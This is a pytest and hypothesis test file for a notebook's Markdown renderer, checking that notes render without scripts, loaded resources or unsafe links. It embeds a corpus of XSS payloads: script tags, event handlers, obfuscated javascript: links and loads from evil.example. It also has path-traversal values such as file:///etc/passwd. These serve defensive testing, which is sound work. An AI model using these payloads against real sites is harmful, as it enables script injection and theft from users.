"""What a note may become in a page: nothing that runs, is loaded, or leads where it should not."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from notebook_sync.surfaces.dashboard import rendering
from notebook_sync.surfaces.dashboard.rendering import LONGEST, href_of, rendered
from prompt.outline import Outline

# What others found to get a script past a renderer of Markdown.
XSS = """\
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<iframe src="javascript:alert(1)"></iframe>
<a href="javascript:alert(1)" onclick="alert(1)">x</a>
<body onload=alert(1)>
<style>@import 'http://evil.example/x.css';</style>
<link rel=stylesheet href=http://evil.example/x.css>
<meta http-equiv=refresh content="0;url=http://evil.example">
<base href="http://evil.example/">
<form action="http://evil.example"><button>x</button></form>
<object data="data:text/html,<script>alert(1)</script>"></object>
<video poster=x><source onerror=alert(1)></video>
<div style="background:url(http://evil.example)">x</div>
<input autofocus onfocus=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?php echo "<script>alert(1)</script>" ?>
<x onclick=alert(1)
`<script>alert(1)</script>`
``</code><script>alert(1)</script>``
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](<java\tscript:alert(1)>)
[x](&#106;avascript:alert(1))
[x](java&#10;script:alert(1))
[x](&#1;javascript:alert(1))
[x](javascript&colon;alert(1))
[x](%6Aavascript:alert(1))
[x](javascript%3Aalert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](data:image/png;base64,AAAA)
[x](file:///etc/passwd)
[x](blob:http://evil.example/1)
[x](//evil.example)
[x](\\\\\\\\evil.example)
[x](/\\\\evil.example)
[x](/../logout)
[x](http:javascript:alert(1))
[x](https:///evil.example)
[x](http://a.example" onmouseover="alert(1))
[x](<http://a.example"onmouseover="alert(1)>)
[x](http://a.example '" onmouseover="alert(1)')
[x" onmouseover="alert(1)](http://a.example)
[x][r]
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2Zz4=)
![x](http://evil.example/pixel.png)
![x" onerror="alert(1)](http://evil.example/pixel.png)
![<img src=x onerror=alert(1)>](http://evil.example/pixel.png)
![x](<x" onerror="alert(1)>)
![x](pixel.png '" onerror="alert(1)')
[![x](http://evil.example/pixel.png)](javascript:alert(1))
[![x](http://evil.example/pixel.png)](http://evil.example)
![[pixel.png]]
[[javascript:alert(1)]]
[[//evil.example|x]]
[[x" onmouseover="alert(1)|x]]
[[x|<img src=x onerror=alert(1)>]]
[[x#" onmouseover="alert(1)]]
[[../../logout|x]]
<javascript:alert(1)>
<http://a.example/"onmouseover="alert(1)>
<JAVASCRIPT:alert(1)>
# <script>alert(1)</script>
# x" onmouseover="alert(1)
| <script>alert(1)</script> |\n| :-: |\n| <img src=x onerror=alert(1)> |
- [ ] <script>alert(1)</script>
> <script>alert(1)</script>
```"><script>alert(1)</script>\nx\n```
```x" onmouseover="alert(1)\nx\n```
~~~<script>\n</code></pre><script>alert(1)</script>\n~~~
    </code></pre><script>alert(1)</script>
{{7*7}}{% raw %}
&lt;script&gt;alert(1)&lt;/script&gt;
[r]: javascript:alert(1)
"""
BLOCKS = {"blockquote", "div", "hr", "li", "ol", "p", "pre", "ul", *(f"h{level}" for level in range(2, 7))}
TAGS = BLOCKS | {"a", "br", "code", "em", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr"}
ATTRIBUTES = {"aria-label", "class", "href", "id", "rel", "role", "scope", "start", "tabindex", "title"}


class Made(HTMLParser):
    """The tags and attributes of some markup, as a browser would take it."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.unbalanced: list[str] = []
        self.declared: list[str] = []
        self.said = ""
        self.feed("".join([markup]))  # plain text: slices of markup would be escaped again
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in {"br", "hr"}:
            self.unbalanced.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.unbalanced.pop() == tag

    def handle_data(self, data: str) -> None:
        self.said += data

    def handle_comment(self, data: str) -> None:
        self.declared.append(data)

    def handle_decl(self, decl: str) -> None:
        self.declared.append(decl)

    def handle_pi(self, data: str) -> None:
        self.declared.append(data)

    def unknown_decl(self, data: str) -> None:
        self.declared.append(data)


def must_be_harmless(markup: str) -> Made:
    made = Made(markup)
    assert (made.unbalanced, made.declared) == ([], [])
    for tag, attributes in made.tags:
        assert tag in TAGS
        assert attributes.keys() <= ATTRIBUTES
        if "href" in attributes:
            must_lead_somewhere(attributes)
        assert attributes.get("id", "at-").startswith("at-")
        assert re.fullmatch(r"|[\w-]+", attributes.get("role", ""))
    return made


def must_lead_somewhere(attributes: dict[str, str]) -> None:
    href = attributes["href"]
    assert href.isprintable()
    found = urlsplit(href)
    if found.scheme in {"http", "https", "mailto"}:
        assert attributes["rel"] == "noopener noreferrer"
        assert found.netloc or found.scheme == "mailto"
    else:
        assert not found.scheme
        assert not found.netloc
        assert href.startswith(("/notes/", "#at-"))
        assert not {"..", "."} & set(found.path.split("/"))
        assert not href.startswith("/notes//")


@pytest.mark.parametrize("path", ["", "pages/plan.md"])
@pytest.mark.parametrize("around", ["{}", "harbour {} ferry", "- {}", "> {}", "[[a|{}]]", "[{}](http://a.example)"])
def test_nothing_of_the_corpus_does_anything(around: str, path: str) -> None:
    for attack in XSS.splitlines():
        must_be_harmless(rendered(around.format(attack), path))
    must_be_harmless(rendered(XSS, path))
    must_be_harmless(rendered(XSS.replace("\n", " "), path))


MARKS = st.lists(st.sampled_from([*"[](){}<>!|#\"'&;:/\\`~*_-= \t\n\0x.?", *XSS.splitlines(), "\u202e", "é", "🚢"]))


@settings(max_examples=60)
@given(MARKS.map("".join))
def test_no_mixture_of_marks_does_anything(text: str) -> None:
    must_be_harmless(rendered(text, "pages/plan.md"))


def test_markup_in_a_note_is_shown_as_it_is_written() -> None:
    made = must_be_harmless(rendered("<b>Odile</b>\n\n<!-- pin -->\n\n<div>\n# No heading\n</div>\n"))
    assert [tag for tag, _ in made.tags] == ["p", "span", "span", "pre", "pre"]
    assert all(text in made.said for text in ("<b>Odile</b>", "<!-- pin -->", "# No heading"))


@pytest.mark.parametrize(
    ("link", "leads"),
    [
        ("https://ferry.example/a?b#c", "https://ferry.example/a?b#c"),
        ("mailto:odile@ferry.example", "mailto:odile@ferry.example"),
        ("quay.md", "/notes/pages/harbour/quay.md"),
        ("../plan.md#next%20step", "/notes/pages/plan.md#at-next%20step"),
        ("/runtime/reminders.md", "/notes/runtime/reminders.md"),
        ("a%23b.md", "/notes/pages/harbour/a%23b.md"),
        ("quay.md?raw=1", "/notes/pages/harbour/quay.md"),
        ("#budget", "#at-budget"),
        ("../../../etc/passwd", ""),
        ("%2e%2e/%2e%2e/%2e%2e/login", ""),
        ("ftp://ferry.example", ""),
        ("//ferry.example", ""),
        ("#", ""),
        ("", ""),
    ],
)
def test_a_link_leads_from_the_note_that_it_stands_in(link: str, leads: str) -> None:
    assert href_of(link, "pages/harbour/tide.md") == leads


def test_a_wikilink_leads_to_the_note_that_it_names() -> None:
    said = rendered("[[Tide table]] [[pages/plan#Next step|the plan]] [[#Budget]]", "pages/quay.md")
    hrefs = [attributes["href"] for tag, attributes in must_be_harmless(said).tags if tag == "a"]
    assert hrefs == ["/notes/Tide%20table", "/notes/pages/plan#at-next-step", "#at-budget"]
    assert ">the plan</a>" in said


def test_code_holds_no_links() -> None:
    assert "<a" not in rendered("`[[plan]]`\n\n```\n[[plan]]\n```\n")


def test_a_picture_is_named_and_never_loaded() -> None:
    made = must_be_harmless(rendered("![The ferry](https://ferry.example/a.png) ![](quay.png) ![[deck.png]]"))
    assert "img" not in {tag for tag, _ in made.tags}
    assert "Picture: The ferry Picture: quay.png" in made.said


def test_headings_can_be_led_to_as_the_sections_are_called() -> None:
    text = "# Plan\n\n## Budget\n\n- ## no section\n\nBudget\n---\n\n###### Low\n"
    made = must_be_harmless(rendered(text, "pages/plan.md", title="Plan"))
    headings = [(tag, attributes.get("id")) for tag, attributes in made.tags if tag[0] == "h"]
    assert headings == [("h2", "at-budget"), ("h2", None), ("h2", "at-budget-1"), ("h6", "at-low")]
    assert "id=" not in rendered(text)


def test_the_first_heading_is_left_out_where_it_is_the_title() -> None:
    assert "Plan" not in rendered("<!-- grammar -->\n\n# *Plan*\n\nText\n", title="Plan")
    assert "<h2>Plan</h2>" in rendered("Text\n\n# Plan\n", title="Plan")
    assert "<h2>Plan B</h2>" in rendered("# Plan B\n", title="Plan")


def test_no_heading_is_as_high_as_that_of_the_page() -> None:
    assert "<h2>Part</h2>" in rendered("# Plan\n\n# Part\n", title="Plan")
    assert "<h3>Part</h3>" in rendered("## Part\n")


def test_what_is_to_be_done_is_told_from_what_is_done() -> None:
    made = must_be_harmless(rendered("- [ ] Call Ines\n- [x] Write to Odile\n- ferry\n"))
    assert [attributes.get("aria-label") for tag, attributes in made.tags if tag == "span"] == ["to do", "done"]


@pytest.mark.parametrize(
    "text",
    [
        "x" * (LONGEST + 1) + " the end",
        "> " * 500 + "the end",
        "".join("  " * depth + "- a\n" for depth in range(200)) + "  " * 200 + "- the end",
        "[" * 50_000 + "the end",
        "![a](b) " * 20_000 + "the end",
        "*a " * 20_000 + "the end",
        "the end\n<!--",
        "> <!-- the end",
    ],
    ids=("long", "quotes", "lists", "brackets", "pictures", "stars", "comment", "open comment"),
)
def test_no_text_is_lost_however_it_is_built(text: str) -> None:
    assert "the end" in must_be_harmless(rendered(text, "pages/plan.md")).said


@pytest.mark.parametrize(
    ("defined", "use"),
    [
        ("/" + "u" * 60_000, "[a]"),
        ("https://ferry.example/?" + "&" * 60_000, "[a]"),
        ("../" * 20_000 + "quay.md", "[a]"),
        (f'/u "{"t" * 60_000}"', "[a]"),
        ("/" + "u" * 60_000, "![a]"),
        ("https://ferry.example/?" + "&" * 60_000, "![][a]"),
    ],
    ids=("address", "escaped", "leads nowhere", "title", "picture", "picture without words"),
)
def test_an_address_is_not_written_as_often_as_a_long_note_can_use_it(defined: str, use: str) -> None:
    markup = rendered(f"[a]: {defined}\n\n" + f"{use}\n\n" * 2_000 + "the end", "pages/plan.md")
    assert len(markup) < 20 * LONGEST
    assert markup.count("<p>") == 2_001


def test_a_long_address_is_looked_at_a_few_times_however_often_a_long_note_uses_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    named = rendering._named
    looked_at: list[str] = []
    monkeypatch.setattr(rendering, "_named", lambda link: looked_at.append(link) or named(link))
    rendered(
        f"[a]: /{'u' * 100_000}\n\n" + ("[a] " * 2_000 + "\n\n") * 7, "pages/plan.md", broken={"pier": "it is gone"}
    )
    assert 0 < len(looked_at) < 20


def test_of_many_paragraphs_of_open_brackets_the_later_are_shown_as_they_are_written() -> None:
    tide = "[tide](tide.md)"
    markup = rendered(("[" * 9_900 + f"{tide}\n\n") * 18 + tide, "pages/plan.md")
    assert markup.count(tide) == 17
    assert markup.count('href="/notes/pages/tide.md"') == 2


def test_a_long_note_of_prose_is_rendered_whole() -> None:
    sentence = "The [ferry](ferry.md) leaves [[Quay|the quay]] at *noon*, as ![the map](map.png) shows. "
    paragraph = sentence * 20 + "\n\n"
    count = LONGEST // len(paragraph)
    markup = rendered(paragraph * count, "pages/plan.md")
    assert markup.count("<a href=") == markup.count("<em>") * 2 == 40 * count


def test_a_heading_of_open_brackets_is_called_what_is_written() -> None:
    text = f"# {'[' * 60}*Tide*\n\n# [*Tide*\n"
    assert 'id="at-tide"' in rendered(text, "pages/plan.md")
    assert Outline(text).sections[0].title == f"{'[' * 60}Tide"
